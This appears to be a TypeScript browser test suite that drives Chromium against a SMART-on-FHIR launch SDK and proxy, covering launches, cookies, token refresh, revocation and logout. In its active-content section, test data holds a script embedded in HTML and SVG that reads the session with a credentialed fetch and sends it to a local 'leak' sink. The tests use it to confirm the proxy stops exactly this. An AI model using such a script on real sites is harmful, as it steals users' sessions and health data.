import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, type ExpectStatic } from 'vitest';
import { LOCAL_CLIENT, sampleConfig } from '../../local/stack.js';
import { startFixture, type Fixture } from '../integration/stack-fixture.js';
import { hasChromium, newContext, PAGE_SHOWS, releaseBrowser, screenshot, sharedBrowser } from './chromium.js';

/*
 * Everything the suite drives in Chromium, in one file: a file runs in one worker, and every browser
 * file a worker runs shares that worker's Chromium (chromium.ts), so one file means one Chromium and
 * one load of playwright-core per run instead of one in each of the two workers that used to pick up
 * the browser files side by side (about 1 s of CPU to load playwright-core, and a Chromium's start,
 * first renderer and stop). Each section below starts its own stack with the configuration it needs
 * and closes its contexts when it ends; the sections run one after another.
 */

describe('sdk', () => {
  let fixture: Fixture;
  let browser: Browser;
  const contexts: BrowserContext[] = [];

  beforeAll(async () => {
    if (!hasChromium) return;
    // SameSite=None (sent with Partitioned): what a customer embedding the app in EHR frames configures.
    fixture = await startFixture({
      configure: ({ apiUrl, sandbox }) => ({ ...(sampleConfig(apiUrl, sandbox!.fhirBaseUrl) as object), cookie: { sameSite: 'None' } }),
    });
    browser = await sharedBrowser();
  });
  afterAll(async () => {
    for (const context of contexts) await context.close().catch(() => undefined);
    await releaseBrowser(browser);
    await fixture?.close();
  });

  const sandbox = () => fixture.stack.sandbox!;
  const patients = () => sandbox().patients;

  async function newPage(): Promise<{ context: BrowserContext; page: Page }> {
    const context = await newContext(browser);
    contexts.push(context);
    return { context, page: await context.newPage() };
  }

  /** Runs an EHR launch in `page` for a patient and waits for the demo app to show them. */
  async function ehrLaunch(expect: ExpectStatic, page: Page, patient: { id: string; name: string }, query = ''): Promise<void> {
    await page.goto(`${sandbox().url}/ehr/launch?patient=${encodeURIComponent(patient.id)}${query}`);
    await page.waitForURL(`${fixture.stack.appUrl}**`);
    await eventually(expect, () => page.locator('#patient-name').textContent()).toBe(patient.name);
  }

  /**
   * Polls until the page shows what is expected; generous, as the machine may be busy and pages run side
   * by side. Takes the test's own `expect`, as the tests run concurrently.
   */
  const eventually = <T>(expect: ExpectStatic, read: () => T | Promise<T>) => expect.poll(read, { timeout: 45_000, interval: PAGE_SHOWS.interval });
  const shot = screenshot;
  /** What the SDK keeps in this tab: its sessionStorage entries. */
  const storedEntries = (page: Page) => page.evaluate(() => Object.keys(sessionStorage).filter((k) => k.startsWith('smart-launch:')).length);

  /*
   * Each test has its own browser context (its own cookies and storage), so they run side by side on
   * the one stack. The two marked `sequential` run alone: one moves the stack's clock, one takes the
   * last token the EHR issued; concurrent launches would change those. Signing out of a standalone
   * launch (the revocation, the tab cleared, the old id ended) is checked in the launch section, on the
   * default stack, in the launch the patient portal starts there.
   */
  describe.skipIf(!hasChromium)('the browser SDK and the demo app in Chromium', { concurrent: true, timeout: 120_000 }, () => {
    it('EHR launch in a new window: the EHR page opens the app in its own window (SMART-LAUNCH-05); there the fhirclient.js bridge reads patient, user and encounter and a paged, flat request() with resolveReferences through the proxy', async ({ expect }) => {
      const { context, page } = await newPage();
      const patient = patients()[0]!;
      const requested: string[] = [];
      context.on('request', (request) => requested.push(request.url()));
      await page.goto(`${sandbox().url}/`);
      await shot(page, 'sdk-sandbox-ehr-page');
      const opened = context.waitForEvent('page');
      await page.locator('tr', { hasText: patient.name }).getByRole('link', { name: 'New window' }).click();
      const app = await opened;
      await app.waitForURL(`${fixture.stack.appUrl}**`);
      await eventually(expect, () => app.locator('#patient-name').textContent()).toBe(patient.name);
      // The session id left the address bar at once; the EHR page stayed where it was.
      expect(app.url()).toBe(fixture.stack.appUrl);
      expect(page.url()).toBe(`${sandbox().url}/`);
      expect(await app.locator('#condition-list li').count()).toBeGreaterThan(0);
      // The sandbox's seeded MedicationRequests fill the medications section.
      await eventually(expect, () => app.locator('#medication-list').textContent()).toContain('lisinopril 10 MG Oral Tablet — Take 1 tablet by mouth once daily');
      expect(await app.locator('#vitals-chart svg polyline').count()).toBe(3);
      // The EHR's smart_style_url is honoured: its highlight colour drives the app's bar.
      await eventually(expect, () => app.evaluate(() => document.documentElement.dataset.smartStyle)).toBe('applied');
      expect(await app.locator('header.bar').evaluate((e) => getComputedStyle(e).backgroundColor)).toBe('rgb(43, 95, 173)');
      await shot(app, 'sdk-new-window');

      // The fhirclient.js bridge page, in the same tab: the session the SDK keeps for the tab.
      await app.goto(`${fixture.stack.appUrl}fhirclient.html`);
      await eventually(expect, () => app.locator('#result').getAttribute('data-state')).toBe('done');
      const result = JSON.parse((await app.locator('#result').textContent()) ?? '{}') as Record<string, unknown>;
      expect(result).toMatchObject({
        patient: { resourceType: 'Patient', id: patient.id },
        user: { resourceType: 'Practitioner', id: sandbox().practitioner.id },
        encounter: { resourceType: 'Encounter' },
        pages: 3,
        observations: 15,
        everyObservationOfPatient: true,
        resolvedSubject: patient.name,
      });
      // Every FHIR request of the launch, the app and the bridge went through this session's proxy; none to the EHR itself, none with a token.
      const fhirCalls = requested.filter((url) => url.includes('/fhir/'));
      expect(fhirCalls.length).toBeGreaterThanOrEqual(6);
      expect(fhirCalls.every((url) => url.startsWith(`${fixture.stack.apiUrl}/sessions/`))).toBe(true);
      await shot(app, 'sdk-fhirclient-bridge');
    });

    it('inside the EHR\'s cross-site, sandboxed iframe the launch runs in the frame with a SameSite=None; Partitioned cookie (BFF-12, SMART-LAUNCH-05)', async ({ expect }) => {
      const { context, page } = await newPage();
      const patient = patients()[1]!;
      await page.goto(`${sandbox().url}/`);
      await page.locator('tr', { hasText: patient.name }).getByRole('link', { name: 'In EHR frame' }).click();
      const iframe = page.locator('#app-frame');
      expect(await iframe.getAttribute('sandbox')).toContain('allow-popups-to-escape-sandbox');
      const frame = page.frameLocator('#app-frame');
      await eventually(expect, () => frame.locator('#patient-name').textContent()).toBe(patient.name);
      // The EHR (127.0.0.1) and the app (localhost) are different sites: the frame is cross-site.
      expect(new URL(sandbox().url).hostname).not.toBe(new URL(fixture.stack.appUrl).hostname);
      const cookie = (await context.cookies(fixture.stack.apiUrl)).find((c) => c.name === '__Host-smart-launch');
      expect(cookie).toMatchObject({ httpOnly: true, secure: true, sameSite: 'None' });
      expect((cookie as { partitionKey?: string }).partitionKey).toBe(`http://127.0.0.1`);
      await shot(page, 'sdk-ehr-iframe');
    });

    it('sign-in from a frame whose EHR sign-in page refuses framing: a popup signs in and hands the session to the frame (BFF-13)', async ({ expect }) => {
      const { context, page } = await newPage();
      const patient = patients()[2]!;
      const interactionHeaders: Array<Record<string, string>> = [];
      context.on('response', (response) => {
        if (response.url().includes('/oauth/interaction/') && response.request().method() === 'GET') interactionHeaders.push(response.headers());
      });
      await page.goto(`${sandbox().url}/`);
      await page.locator('tr', { hasText: patient.name }).getByRole('link', { name: 'Frame, sign-in refuses framing' }).click();
      const frame = page.frameLocator('#app-frame');
      await eventually(expect, () => frame.locator('#signin').isVisible()).toBe(true);
      await shot(page, 'sdk-popup-signin-needed');

      const popupOpened = page.waitForEvent('popup');
      await frame.getByRole('button', { name: 'Sign in (opens a window)' }).click();
      const popup = await popupOpened;
      await popup.getByRole('button', { name: 'Allow' }).click();
      await popup.waitForEvent('close');
      await eventually(expect, () => frame.locator('#patient-name').textContent()).toBe(patient.name);

      // The EHR's sign-in page would not have loaded in the frame.
      expect(interactionHeaders.length).toBeGreaterThan(0);
      expect(interactionHeaders[0]!['x-frame-options']).toBe('DENY');
      expect(interactionHeaders[0]!['content-security-policy']).toContain("frame-ancestors 'none'");
      // The frame holds its own binding cookie, in the EHR's partition, set by the hand-off.
      const cookies = (await context.cookies(fixture.stack.apiUrl)).filter((c) => c.name === '__Host-smart-launch');
      expect(cookies.map((c) => (c as { partitionKey?: string }).partitionKey ?? 'none').sort()).toEqual(['http://127.0.0.1', 'http://localhost'].sort());
      await shot(page, 'sdk-popup-handoff');
    });

    it('two tabs on two patients: each tab fetches only its own patient through its own session and keeps it across a reload, the fragment gone from history; a new tab gets none and says how to start (BFF-16)', async ({ expect }) => {
      const { context, page } = await newPage();
      const [a, b] = [patients()[0]!, patients()[1]!];
      const tabs = [page, await context.newPage()];
      const seen: string[][] = [[], []];
      tabs.forEach((tab, i) => tab.on('request', (request) => request.url().includes('/sessions/') && seen[i]!.push(request.url())));
      await ehrLaunch(expect, tabs[0]!, a);
      await ehrLaunch(expect, tabs[1]!, b);
      await Promise.all(tabs.map((tab) => tab.reload()));
      await eventually(expect, () => tabs[0]!.locator('#patient-name').textContent()).toBe(a.name);
      await eventually(expect, () => tabs[1]!.locator('#patient-name').textContent()).toBe(b.name);
      for (const tab of tabs) {
        expect(tab.url()).toBe(fixture.stack.appUrl);
        expect(await tab.evaluate(() => history.length)).toBeLessThanOrEqual(3);
      }
      const ids = await Promise.all(tabs.map((tab) => tab.evaluate(() => (window as unknown as { demo: { session: { id: string } } }).demo.session.id)));
      expect(ids[0]).not.toBe(ids[1]);
      for (const [i, own, other] of [
        [0, a, b],
        [1, b, a],
      ] as const) {
        expect(seen[i]!.length).toBeGreaterThan(5);
        for (const url of seen[i]!) {
          expect(url).toContain(`/sessions/${ids[i]}`);
          expect(url).not.toContain(other.id);
        }
        expect(seen[i]!.some((url) => url.includes(own.id))).toBe(true);
      }
      await shot(tabs[0]!, 'sdk-two-tabs-a');
      await shot(tabs[1]!, 'sdk-two-tabs-b');

      const fresh = await context.newPage();
      await fresh.goto(fixture.stack.appUrl);
      await eventually(expect, () => fresh.locator('#status').textContent()).toContain('No launch in progress');
      expect(await fresh.locator('#patient-name').textContent()).toBe('');
    });

    it.sequential('tokens that expire with the page open are refreshed by the proxy; the page keeps working (invariant 8)', async ({ expect }) => {
      const { page } = await newPage();
      const patient = patients()[2]!;
      await ehrLaunch(expect, page, patient, '&tokenTtl=120');
      const before = await page.evaluate(() => (window as unknown as { demo: { session: { context: { expiresAt: string } } } }).demo.session.context.expiresAt);
      expect(Date.parse(before) - Date.now()).toBeLessThan(125_000);
      const refreshes = sandbox().stats.tokenRequests.refresh_token ?? 0;
      const clock = fixture.stack.deps.clock as { now: () => number };
      const realNow = clock.now;
      clock.now = () => realNow() + 121_000;
      try {
        await page.getByRole('button', { name: 'Refresh data' }).click();
        await eventually(expect, () => sandbox().stats.tokenRequests.refresh_token ?? 0).toBe(refreshes + 1);
        await eventually(expect, () => page.locator('#observation-rows tr').count()).toBe(10);
        await eventually(expect, () => page.locator('#context-list').textContent()).not.toContain(before);
        expect(await page.locator('#patient-name').textContent()).toBe(patient.name);
        expect(await page.locator('#ended').isVisible()).toBe(false);
      } finally {
        clock.now = realNow;
      }
      await shot(page, 'sdk-refresh-after-expiry');
    });

    it.sequential('a revoked grant: the next request ends the session once, the page shows the way back, and nothing cached remains (SMART-REVOKE-02)', async ({ expect }) => {
      const { page } = await newPage();
      const patient = patients()[0]!;
      await ehrLaunch(expect, page, patient);
      await page.evaluate(() => {
        const w = window as unknown as { ended: number; demo: { session: { onSessionEnded(f: () => void): void } } };
        w.ended = 0;
        w.demo.session.onSessionEnded(() => (w.ended += 1));
      });
      expect(await page.evaluate(() => (window as unknown as { demo: { session: { cacheSize: number } } }).demo.session.cacheSize)).toBeGreaterThan(0);
      expect(await storedEntries(page)).toBe(1);
      const last = fixture.observed.tokenResponses.at(-1)!;
      await sandbox().revokeGrantOf(last.refresh_token as string);

      const refreshCalls: string[] = [];
      page.on('request', (request) => request.url().endsWith('/refresh') && refreshCalls.push(request.method()));
      await page.getByRole('button', { name: 'Refresh data' }).click();
      await eventually(expect, () => page.locator('#ended').isVisible()).toBe(true);
      // Four sections failed at once: one refresh attempt between them, then one sessionEnded.
      expect(refreshCalls).toEqual(['POST']);
      expect(await page.locator('#ended-title').textContent()).toBe('Your session has ended');
      expect(await page.locator('#ended-action').textContent()).toContain('open the app again');
      expect(await page.locator('#patient-name').textContent()).toBe('');
      expect(await page.locator('#observation-rows tr').count()).toBe(0);
      expect(await page.locator('#chart-area').isVisible()).toBe(false);
      expect(await page.evaluate(() => (window as unknown as { demo: { session: { cacheSize: number } } }).demo.session.cacheSize)).toBe(0);
      expect(await storedEntries(page)).toBe(0);
      expect(await page.evaluate(() => (window as unknown as { ended: number }).ended)).toBe(1);
      await shot(page, 'sdk-revoked');
      // A reload finds nothing to resume.
      await page.reload();
      await eventually(expect, () => page.locator('#status').textContent()).toContain('No launch in progress');
    });

    it('a narrowed grant: the user unticks scopes at the EHR and the app says what it did not get (SMART-SCOPE-07)', async ({ expect }) => {
      const { page } = await newPage();
      const patient = patients()[0]!;
      await page.goto(`${sandbox().url}/ehr/launch?patient=${patient.id}&consent=1`);
      await page.getByRole('checkbox', { name: 'offline_access' }).uncheck();
      await page.getByRole('button', { name: 'Allow' }).click();
      await page.waitForURL(`${fixture.stack.appUrl}**`);
      await eventually(expect, () => page.locator('#patient-name').textContent()).toBe(patient.name);
      expect(await page.locator('#reduced-text').textContent()).toContain('No refresh was granted');
      expect(await page.locator('#context-list').textContent()).not.toContain('offline_access');
      await shot(page, 'sdk-narrowed-grant');

      // Nothing of the patient record shared: a clear message, no blank page, nothing fetched from the EHR.
      await page.goto(`${sandbox().url}/ehr/launch?patient=${patient.id}&consent=1`);
      await page.getByRole('checkbox', { name: 'patient/*.rs' }).uncheck();
      await page.getByRole('button', { name: 'Allow' }).click();
      await page.waitForURL(`${fixture.stack.appUrl}**`);
      await eventually(expect, () => page.locator('#status').textContent()).toContain('did not grant this app access');
      expect(await page.locator('#reduced-text').textContent()).toContain('did not grant access to conditions, medications, observations, vital signs');
      expect(await page.locator('.state[data-for="conditions"]').textContent()).toContain('Not shared with this app');
      await shot(page, 'sdk-refused-scope');
    });

    it('errors at the authorize step each end on a page that says what happened and how to go on', async ({ expect }) => {
      const { page } = await newPage();
      const patient = patients()[1]!;
      const launch = (outcome: string) => page.goto(`${sandbox().url}/ehr/launch?patient=${patient.id}&authorize=${outcome}`);
      await launch('invalid_client');
      expect(await page.locator('h1').textContent()).toBe('invalid_client');
      expect(await page.locator('body').textContent()).toContain('does not know this app');
      await launch('invalid_redirect');
      expect(await page.locator('body').textContent()).toContain('redirect_uri is not registered');
      await launch('invalid_scope');
      await eventually(expect, () => page.locator('h1').textContent()).toBe('Sign-in could not be completed');
      expect(await page.locator('body').textContent()).toContain('AUTHORIZATION_FAILED');
      await launch('access_denied');
      await eventually(expect, () => page.locator('body').textContent()).toContain('AUTHORIZATION_DENIED');
      expect(await page.getByRole('link', { name: 'Start again' }).count()).toBe(1);
      await shot(page, 'sdk-authorize-denied');
      // Launch options the sandbox does not understand are refused with a reason, before any launch.
      const refused = await page.goto(`${sandbox().url}/ehr/launch?patient=${patient.id}&tokenTtl=0`);
      expect(refused?.status()).toBe(400);
      expect(await page.locator('body').textContent()).toContain('between 1 and 86400');
      expect((await page.goto(`${sandbox().url}/ehr/frame?patient=${patient.id}&authorize=teapot`))?.status()).toBe(400);
    });

    it('a foreign session id (well-formed, not this browser\'s) shows "session ended", never a blank page', async ({ expect }) => {
      const { page } = await newPage();
      await page.goto(`${fixture.stack.appUrl}#session=${'A'.repeat(43)}`);
      await eventually(expect, () => page.locator('#ended').isVisible()).toBe(true);
      expect(await page.locator('#ended-action').textContent()).toContain('open the app again');
      expect(page.url()).toBe(fixture.stack.appUrl);
      await page.goto('about:blank');
      await page.goto(`${fixture.stack.appUrl}#session=not-a-session`);
      await eventually(expect, () => page.locator('#ended').isVisible()).toBe(true);
      await shot(page, 'sdk-foreign-session');
    });
  });
});

describe('launch', () => {
  /*
   * Launches clicked through in Chromium on the default stack (SameSite=Lax), signing out of one, and
   * what the proxy does with active content from the EHR in the browser that the first of them signed
   * in. One stack for the section, and one "Launch app" EHR launch shared by the checks on the launch
   * and the checks on active content: neither changes the session, and a launch in a browser costs
   * more than all of them together.
   */

  let fixture: Fixture;
  let browser: Browser;
  let sink: Server;
  let sinkUrl: string;
  const sinkHits: string[] = [];

  beforeAll(async () => {
    if (!hasChromium) return;
    sink = createServer((req, res) => {
      sinkHits.push(req.url ?? '');
      res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    });
    await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
    sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}/leak`;
    fixture = await startFixture();
    browser = await sharedBrowser();
  });
  afterAll(async () => {
    await releaseBrowser(browser);
    await fixture?.close();
    await new Promise<void>((resolve) => (sink ? sink.close(() => resolve()) : resolve()));
  });

  /** A browser signed in through the sandbox EHR's "Launch app" link on patient 0, and the session id the demo app received. */
  interface SignedIn {
    readonly context: BrowserContext;
    readonly app: Page;
    readonly sessionId: string;
  }
  let signedIn: Promise<SignedIn> | undefined;

  /**
   * The section's one EHR launch, run by whichever test needs it first: "Launch app" on patient 0 in a
   * context of its own (downloads accepted, for the active-content checks), answered once the demo app
   * shows the patient. The context stays open until the section ends.
   */
  function signIn(): Promise<SignedIn> {
    signedIn ??= (async () => {
      const context = await newContext(browser, { acceptDownloads: true });
      const app = await context.newPage();
      const patient = fixture.stack.sandbox!.patients[0]!;
      const sessionRequest = app.waitForRequest((request) => /\/sessions\/[A-Za-z0-9_-]{43}$/.test(new URL(request.url()).pathname));
      await app.goto(`${fixture.stack.sandbox!.url}/`);
      await app.locator('tr', { hasText: patient.name }).getByRole('link', { name: 'Launch app' }).click();
      await app.waitForURL(`${fixture.stack.appUrl}**`);
      const sessionId = new URL((await sessionRequest).url()).pathname.split('/').at(-1)!;
      // The page itself watches for the patient's name (no expect.poll outside a test).
      await app.waitForFunction((name) => document.querySelector('#patient-name')?.textContent === name, patient.name, { timeout: PAGE_SHOWS.timeout, polling: PAGE_SHOWS.interval });
      return { context, app, sessionId };
    })();
    return signedIn;
  }

  describe.skipIf(!hasChromium)('a person clicking through a launch in Chromium', () => {
    it('"Launch app" on a patient in the sandbox EHR opens the demo app on that patient, via a real EHR launch', async () => {
      const { context, app: page } = await signIn();
      const patient = fixture.stack.sandbox!.patients[0]!;
      await expect.poll(() => page.locator('#patient-name').textContent(), PAGE_SHOWS).toBe(patient.name);

      // The session id is taken from the fragment and removed from the address bar.
      expect(page.url()).toBe(fixture.stack.appUrl);
      expect(await page.locator('#patient-birth').textContent()).toBe(patient.birthDate);
      expect(await page.locator('#observation-rows tr').count()).toBe(10);
      expect(await page.locator('#context-list').textContent()).toContain('ehr');
      // The binding cookie is HttpOnly: invisible to the page's scripts.
      expect(await page.evaluate(() => document.cookie)).not.toContain('__Host-smart-launch');
      const cookies = await context.cookies(fixture.stack.apiUrl);
      expect(cookies.find((c) => c.name === '__Host-smart-launch')).toMatchObject({ httpOnly: true, secure: true, sameSite: 'Lax', path: '/' });
      await screenshot(page, 'ehr-launch');
    });

    it('the "Patient portal" link runs a standalone launch: the patient signs in and sees their own record; logout revokes, clears the tab and offers a new sign-in; the old session id opens nothing afterwards', async () => {
      const sandbox = fixture.stack.sandbox!;
      const context = await newContext(browser);
      const page = await context.newPage();
      const patient = sandbox.patients[1]!;

      await page.goto(`${sandbox.url}/`);
      await page.getByRole('link', { name: 'Patient portal' }).click();
      await page.getByRole('button', { name: new RegExp(`Sign in as ${patient.name.split(' ')[0]}`) }).click();
      await page.waitForURL(`${fixture.stack.appUrl}**`);
      await expect.poll(() => page.locator('#patient-name').textContent(), PAGE_SHOWS).toBe(patient.name);
      expect(await page.locator('#context-list').textContent()).toContain('standalone');
      // A patient-facing launch asks the app for its own patient banner.
      expect(await page.locator('#banner').getAttribute('class')).not.toContain('compact');
      await screenshot(page, 'standalone-launch');

      // Signing out ends the session: the grant is revoked, the app says so and keeps nothing of it in the tab.
      const id = await page.evaluate(() => (window as unknown as { demo: { session: { id: string } } }).demo.session.id);
      const revocations = sandbox.stats.revocations;
      await page.getByRole('button', { name: 'Sign out' }).click();
      await expect.poll(() => page.locator('#status').textContent(), PAGE_SHOWS).toContain('Signed out');
      expect(sandbox.stats.revocations).toBe(revocations + 1);
      expect(await page.locator('#patient-name').textContent()).toBe('');
      expect(await page.evaluate(() => Object.keys(sessionStorage).filter((k) => k.startsWith('smart-launch:')).length)).toBe(0);
      expect(await page.locator('#relaunch').getAttribute('href')).toBe(`${fixture.stack.apiUrl}/launch?iss=${encodeURIComponent(sandbox.fhirBaseUrl)}`);
      await screenshot(page, 'sdk-logout');
      // The same id, put back in the fragment, is a clear "session ended" with the way forward.
      await page.goto('about:blank');
      await page.goto(`${fixture.stack.appUrl}#session=${id}`);
      await expect.poll(() => page.locator('#ended').isVisible(), PAGE_SHOWS).toBe(true);
      expect(page.url()).toBe(fixture.stack.appUrl);
      await context.close();
    });

    it('a failed launch shows a readable page with a code and a way to start again', async () => {
      const context = await newContext(browser);
      const page = await context.newPage();

      await page.goto(`${fixture.stack.apiUrl}/launch`);
      await page.getByRole('button', { name: 'Cancel' }).click();

      await expect.poll(() => page.locator('h1').textContent(), PAGE_SHOWS).toBe('Sign-in could not be completed');
      expect(await page.locator('body').textContent()).toContain('AUTHORIZATION_DENIED');
      await page.getByRole('link', { name: 'Start again' }).click();
      await expect.poll(() => page.locator('h1').textContent(), PAGE_SHOWS).toBe('Sandbox EHR sign-in');
      await context.close();
    });
  });

  /*
   * A hostile (or merely careless) EHR serves a Binary as HTML or SVG with a script in it. An app opens
   * it as `attachment.url` through the proxy, so the document would live on the API's origin, where a
   * same-origin fetch carries the binding cookie and the session id is in the document's own URL. The
   * proxy must keep it from reading anything. The tests open content in the signed-in browser; none
   * changes the session.
   */

  /** The attacker's script: the first statement marks that it ran; then it reads the session and sends it out. */
  function payload(): string {
    return `document.title='ran';fetch(location.pathname.replace(/\\/fhir\\/.*$/,''),{credentials:'include'}).then(r=>r.text()).then(t=>{document.title='read:'+t.length;return fetch(${JSON.stringify(sinkUrl)}+'?'+encodeURIComponent(t.slice(0,200)),{mode:'no-cors'})}).catch(e=>{document.title='failed:'+e})`;
  }

  const HOSTILE = {
    html: { contentType: 'text/html; charset=utf-8', body: () => `<!doctype html><html><head><title>note</title></head><body><p>Clinical note</p><script>${payload()}</script></body></html>` },
    svg: { contentType: 'image/svg+xml', body: () => `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><title>note</title><script>${payload()}</script></svg>` },
  } as const;

  describe.skipIf(!hasChromium)('active content from the EHR, opened through the proxy in Chromium', () => {
    it.each(['html', 'svg'] as const)('a %s Binary cannot run script or read the session on the API origin', async (kind) => {
      const { context, app, sessionId } = await signIn();
      const hostile = HOSTILE[kind];
      fixture.stack.sandbox!.faults.fhirAnswer = { status: 200, headers: { 'content-type': hostile.contentType }, body: hostile.body(), pathPrefix: 'Binary/' };
      try {
        const url = `${fixture.stack.apiUrl}/sessions/${sessionId}/fhir/Binary/hostile-${kind}`;
        const viewer = await context.newPage();
        const download = viewer.waitForEvent('download', { timeout: 10_000 }).then((d) => d, () => undefined);
        const navigation = await viewer.goto(url).then(
          (response) => ({ response, error: undefined }),
          (error: unknown) => ({ response: undefined, error: String(error) }),
        );
        if (navigation.response) {
          // Rendered after all: it must be inert and on an opaque origin.
          await viewer.waitForLoadState('load');
          expect(await viewer.title()).toBe('note');
          expect(await viewer.evaluate(() => window.origin)).toBe('null');
          const headers = navigation.response.headers();
          expect(headers['content-security-policy']).toMatch(/^sandbox/);
        } else {
          // The browser was told to download it, never to render it on the API origin.
          expect(navigation.error).toMatch(/Download is starting|ERR_ABORTED/);
          const file = await download;
          expect(file).toBeDefined();
          await file?.cancel();
        }
        // Whatever the browser did, the page it came from still shows the app, and nothing reached the sink.
        expect(await app.locator('#patient-name').textContent()).toBe(fixture.stack.sandbox!.patients[0]!.name);
        expect(sinkHits).toEqual([]);
        await viewer.close();
      } finally {
        fixture.stack.sandbox!.faults.fhirAnswer = undefined;
      }
    });

    it('the same Binary fetched by the app (as FHIR clients do) still arrives byte for byte, marked inert', async () => {
      const { app, sessionId } = await signIn();
      const body = HOSTILE.html.body();
      fixture.stack.sandbox!.faults.fhirAnswer = { status: 200, headers: { 'content-type': HOSTILE.html.contentType }, body, pathPrefix: 'Binary/' };
      try {
        const fetched = await app.evaluate(async (url) => {
          const response = await fetch(url, { credentials: 'include' });
          return { status: response.status, text: await response.text(), disposition: response.headers.get('content-disposition'), cache: response.headers.get('cache-control') };
        }, `${fixture.stack.apiUrl}/sessions/${sessionId}/fhir/Binary/hostile-html`);
        expect(fetched).toEqual({ status: 200, text: body, disposition: 'attachment', cache: 'no-store' });
      } finally {
        fixture.stack.sandbox!.faults.fhirAnswer = undefined;
      }
    });
  });
});

describe('quirks', () => {
  let fixture: Fixture;
  let browser: Browser;

  beforeAll(async () => {
    if (!hasChromium) return;
    // Authorize by POST: the auto-submitting form must run under its hash-based CSP in a real browser.
    fixture = await startFixture({
      configure: ({ apiUrl, sandbox }) => {
        const config = sampleConfig(apiUrl, sandbox!.fhirBaseUrl) as { issuers: Array<Record<string, unknown>> };
        config.issuers[0]!.authorizeMethod = 'POST';
        return config;
      },
    });
    browser = await sharedBrowser();
  });
  afterAll(async () => {
    await releaseBrowser(browser);
    await fixture?.close();
  });

  describe.skipIf(!hasChromium)('EHR quirks in Chromium', () => {
    it('authorize by POST: the form submits itself under its CSP, with no violation, and the app opens on the patient (SMART-AUTHZ-10)', async () => {
      fixture.stack.sandbox!.clearQuirks();
      const context = await newContext(browser);
      const page = await context.newPage();
      const violations: string[] = [];
      page.on('console', (message) => {
        if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
      });
      const patient = fixture.stack.sandbox!.patients[0]!;
      const posts: string[] = [];
      page.on('request', (request) => {
        if (request.method() === 'POST' && request.isNavigationRequest()) posts.push(request.url());
      });

      await page.goto(`${fixture.stack.sandbox!.url}/`);
      await page.locator('tr', { hasText: patient.name }).getByRole('link', { name: 'Launch app' }).click();
      await page.waitForURL(`${fixture.stack.appUrl}**`);

      await expect.poll(() => page.locator('#patient-name').textContent(), PAGE_SHOWS).toBe(patient.name);
      expect(posts).toEqual([`${fixture.stack.sandbox!.issuer}/auth`]);
      expect(violations).toEqual([]);
      await context.close();
    });

    it('no patient context: the demo app says the launch has no patient (SMART-CTX-01)', async () => {
      fixture.stack.sandbox!.clearQuirks();
      fixture.stack.sandbox!.quirks.noPatientContext = true;
      const context = await newContext(browser);
      const page = await context.newPage();
      const patient = fixture.stack.sandbox!.patients[1]!;

      await page.goto(`${fixture.stack.sandbox!.url}/`);
      await page.locator('tr', { hasText: patient.name }).getByRole('link', { name: 'Launch app' }).click();
      await page.waitForURL(`${fixture.stack.appUrl}**`);

      await expect.poll(() => page.locator('#status').textContent(), PAGE_SHOWS).toContain('This launch has no patient in context.');
      fixture.stack.sandbox!.clearQuirks();
      await context.close();
    });
  });
});

describe('logout', () => {
  /*
   * RP-initiated logout in Chromium: the demo app's "Sign out" calls the SDK's `logout()`, the API
   * answers the EHR's end-session URL, the SDK sends the window there, and the sandbox EHR (its
   * `endSession` quirk) checks the client and redirects back to the app with `state`.
   */

  let fixture: Fixture;
  let browser: Browser;
  let context: BrowserContext | undefined;

  beforeAll(async () => {
    if (!hasChromium) return;
    fixture = await startFixture();
    // Before any launch, so the stack discovers the end-session endpoint at the first one.
    fixture.stack.sandbox!.quirks.endSession = true;
    browser = await sharedBrowser();
  });
  afterAll(async () => {
    await context?.close().catch(() => undefined);
    await releaseBrowser(browser);
    await fixture?.close();
  });

  describe.skipIf(!hasChromium)('SDK logout() with RP-initiated logout in Chromium', { timeout: 120_000 }, () => {
    it('navigates to the EHR\'s end-session URL, which signs the user out and returns to the app with state (SMART-REVOKE-01)', async () => {
      const sandbox = fixture.stack.sandbox!;
      const patient = sandbox.patients[0]!;
      context = await newContext(browser);
      const page = await context.newPage();
      await page.goto(`${sandbox.url}/ehr/launch?patient=${encodeURIComponent(patient.id)}`);
      await page.waitForURL(`${fixture.stack.appUrl}**`);
      await expect.poll(() => page.locator('#patient-name').textContent(), PAGE_SHOWS).toBe(patient.name);

      // Act: the app's sign-out button (session.logout()).
      const endSession = page.waitForRequest((request) => request.url().startsWith(`${sandbox.url}/end-session?`));
      await page.locator('#logout').click();
      const request = await endSession;
      await page.waitForURL((url) => url.href.startsWith(fixture.stack.appUrl) && url.searchParams.has('state'));
      await screenshot(page, 'sdk-logout-end-session');

      // Assert: the browser went to the EHR with the client's id and no id_token (invariant 1), and came back with the same state.
      const sent = new URL(request.url());
      expect(sent.searchParams.get('client_id')).toBe(LOCAL_CLIENT.clientId);
      expect(sent.searchParams.get('post_logout_redirect_uri')).toBe(fixture.stack.appUrl);
      const state = sent.searchParams.get('state');
      expect(state).toMatch(/^[A-Za-z0-9_-]{16,}$/);
      expect(new URL(page.url()).searchParams.get('state')).toBe(state);
      expect(sandbox.endSessionCalls!.at(-1)).toMatchObject({ clientId: LOCAL_CLIENT.clientId, state, outcome: 'redirected' });
      expect(sent.searchParams.has('id_token_hint')).toBe(false);
    });
  });
});
